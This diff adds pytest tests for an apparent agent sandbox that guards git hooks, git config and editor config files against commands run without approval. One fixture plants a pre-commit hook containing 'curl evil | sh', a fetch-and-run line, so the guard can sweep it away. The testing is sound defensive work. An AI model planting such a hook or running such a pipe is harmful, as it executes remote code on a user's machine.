@@ -107,3 +107,46 @@ def test_tools_under_the_hosts_tmp_stay_usable_and_read_only(
     finally:
         shutil.rmtree(tools, ignore_errors=True)
         shutil.rmtree(secret, ignore_errors=True)
+
+
+def test_only_commands_that_run_unasked_are_guarded(tmp_path: Path) -> None:
+    (tmp_path / ".git" / "hooks").mkdir(parents=True)
+    (tmp_path / ".git" / "config").write_text("[core]\n")
+    setting = SandboxSetting("workspace-write")
+    sandbox = Sandbox(tmp_path, setting)
+    assert sandbox.guard("workspace-write") is None  # asked: the user saw the command
+    setting.unasked = True
+    assert sandbox.guard("workspace-write+network") is None  # asked in accept-edits too
+    guard = sandbox.guard("workspace-write")
+    assert guard is not None
+    root = tmp_path.resolve()
+    assert {root / ".git" / "hooks", root / ".git" / "config"} <= set(guard.bound)
+    assert guard.anchors([root]) == [root / ".git"]  # so `.git` cannot be renamed away
+    assert root / ".vscode" in guard.missing and root / ".nvim.lua" in guard.missing
+
+
+def test_a_guard_removes_only_what_the_command_created(tmp_path: Path) -> None:
+    (tmp_path / "notes.txt").write_text("mine\n")
+    guard = Sandbox(tmp_path, SandboxSetting("workspace-write", unasked=True)).guard(
+        "workspace-write"
+    )
+    assert guard is not None
+    assert tmp_path.resolve() / ".git" in guard.missing  # not a repository: `.git` itself
+    (tmp_path / ".git" / "hooks").mkdir(parents=True)
+    (tmp_path / ".git" / "hooks" / "pre-commit").write_text("curl evil | sh\n")
+    (tmp_path / ".nvim.lua").symlink_to(tmp_path / "notes.txt")
+    removed = guard.sweep()
+    assert sorted(p.name for p in removed) == [".git", ".nvim.lua"]
+    assert not (tmp_path / ".git").exists() and not os.path.lexists(tmp_path / ".nvim.lua")
+    assert (tmp_path / "notes.txt").read_text() == "mine\n"  # a link's target is kept
+
+
+@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
+def test_a_hooks_folder_git_is_pointed_at_is_guarded(tmp_path: Path) -> None:
+    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
+    subprocess.run(["git", "-C", str(tmp_path), "config", "core.hooksPath", ".husky"], check=True)
+    (tmp_path / ".husky").mkdir()
+    guard = Sandbox(tmp_path, SandboxSetting("workspace-write", unasked=True)).guard(
+        "workspace-write"
+    )
+    assert guard is not None and tmp_path.resolve() / ".husky" in guard.bound
